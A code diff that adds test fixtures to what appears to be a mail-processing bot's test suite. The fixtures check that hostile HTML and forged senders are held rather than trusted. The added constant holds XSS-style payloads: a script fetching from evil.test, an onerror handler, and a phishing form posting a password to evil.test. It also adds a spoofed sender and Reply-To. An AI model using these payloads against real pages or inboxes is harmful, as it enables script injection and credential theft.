@@ -3,6 +3,15 @@ import type { MailFile, WrittenMail } from '@botyard/shared/testing/mailer/types
 
 export type Piece = { name: string; shows: string };
 
+/** What a page or a mail program must show and never run. */
+const hostileHtml = [
+  '<script>window.pwned = true; fetch("http://evil.test/script")</script>',
+  '<img src="http://evil.test/pixel.png" onerror="window.pwned = true">',
+  '<form action="http://evil.test/form" method="post"><input name="password"><button>Log in again</button></form>',
+  '<iframe src="http://evil.test/frame"></iframe><a href="javascript:window.pwned = true">Look</a>',
+].join('');
+const elsewhere: [string, string] = ['Reply-To', 'victim@harbour.test'];
+
 const pieces: Record<string, Piece & { change: (mail: WrittenMail) => WrittenMail }> = {
   'html-only': {
     name: 'Only HTML',
@@ -21,6 +30,31 @@ const pieces: Record<string, Piece & { change: (mail: WrittenMail) => WrittenMai
         ['List-Id', '<news.harbour.test>'],
         ['Precedence', 'bulk'],
       ],
+    }),
+  },
+  forged: {
+    name: "In somebody else's name",
+    shows: "SPF and DKIM don't prove the sender: held, whoever they are",
+    change: (mail) => ({
+      ...mail,
+      sender: 'mallory@evil.test',
+      html: hostileHtml,
+      headers: [elsewhere],
+      results: [
+        ['X-Mailgun-Spf', 'Pass'],
+        ['X-Mailgun-Dkim-Check-Result', 'Fail'],
+      ],
+    }),
+  },
+  hostile: {
+    name: 'Hostile HTML',
+    shows:
+      'Scripts, pictures, forms and a Reply-To of somebody else: all of it is text, and the answer goes to the sender',
+    change: (mail) => ({
+      ...mail,
+      html: hostileHtml,
+      headers: [elsewhere],
+      results: [['X-Mailgun-Spf', 'Pass']],
     }),
   },
   'eleven-files': {
